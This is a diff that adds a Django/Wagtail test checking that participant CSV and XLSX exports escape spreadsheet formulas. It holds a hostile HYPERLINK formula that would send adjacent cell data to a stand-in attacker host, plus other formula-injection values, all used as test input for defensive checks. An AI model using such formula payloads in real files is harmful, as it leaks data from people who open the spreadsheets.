@@ -101,3 +101,25 @@ def test_the_participants_button_shows_in_the_page_listing_for_its_editors_only(
     client.force_login(coordinator_of("literacy-lyceum1", "coord"))
     explorer = reverse("wagtailadmin_explore", args=[event.get_parent().pk])
     assert urls(event)[0] in client.get(explorer).content.decode()
+
+
+def test_a_registrant_named_as_a_formula_arrives_as_text_in_both_exports(client, event):
+    occurrence = event.occurrences.get()
+    formula = '=HYPERLINK("http://evil.example/?d="&E4&E5&E6,"Подробнее")'
+    register_participant(
+        occurrence.pk,
+        full_name=formula,
+        position="@SUM(1+1)",
+        organization="-2+3",
+        email="attacker@example.ru",
+        phone="+7 900 111",
+    )
+    client.force_login(coordinator_of("literacy-lyceum1", "coord"))
+    _listing, csv_url, xlsx_url = urls(event)
+    rows = list(csv.reader(io.StringIO(client.get(csv_url).content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[-1][1:4] == ["'" + formula, "'@SUM(1+1)", "'-2+3"]
+    assert rows[-1][5] == "'+7 900 111"
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get(xlsx_url).content)).active
+    last = list(sheet.iter_rows())[-1]
+    assert [cell.value for cell in last[1:4]] == ["'" + formula, "'@SUM(1+1)", "'-2+3"]
+    assert all(cell.data_type == "s" for cell in last[1:6])
